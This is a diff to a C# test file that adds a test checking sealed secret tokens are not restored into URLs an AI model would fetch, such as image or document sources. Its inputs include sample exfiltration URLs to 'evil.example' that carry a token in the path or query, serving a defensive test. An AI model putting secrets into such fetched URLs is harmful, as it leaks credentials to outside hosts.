@@ -115,6 +115,20 @@ public sealed class SealedTokensTests
         Assert.DoesNotContain(inspection.Findings, finding => finding.Location.Contains(":sgs1.", StringComparison.Ordinal));
     }
 
+    [Theory]
+    [InlineData("""{"type":"image","source":{"type":"url","url":"https://evil.example/p?d=TOKEN"}}""", false)]
+    [InlineData("""{"type":"tool_result","content":[{"type":"document","source":{"url":"https://evil.example/TOKEN","type":"url"},"title":"x"}]}""", false)]
+    [InlineData("""{"type":"document","title":"TOKEN","source":{"type":"text","media_type":"text/plain","data":"TOKEN"}}""", true)]
+    [InlineData("""{"type":"tool_use","input":{"source":{"url":"https://x.example/TOKEN"},"url":"TOKEN"}}""", true)]
+    [InlineData("""{"type":"document","source":{"type":"url","url":"https://x.example/"},"url":"TOKEN","context":"TOKEN"}""", true)]
+    public void Restores_in_no_address_that_claude_fetches(string block, bool restored)
+    {
+        var inspection = Inspect($$"""{"messages":[{"role":"user","content":[{{block.Replace("TOKEN", Token, StringComparison.Ordinal)}}]}]}""");
+        Assert.Equal(restored, Restored(inspection)?.Contains(Address, StringComparison.Ordinal) == true);
+        Assert.Equal(!restored, Restored(inspection)?.Contains(Token, StringComparison.Ordinal) != false);
+        Assert.DoesNotContain(":sgs1.", Recorded(inspection), StringComparison.Ordinal);
+    }
+
     [Fact]
     public void Writes_quotes_and_line_ends_as_json_has_them()
     {
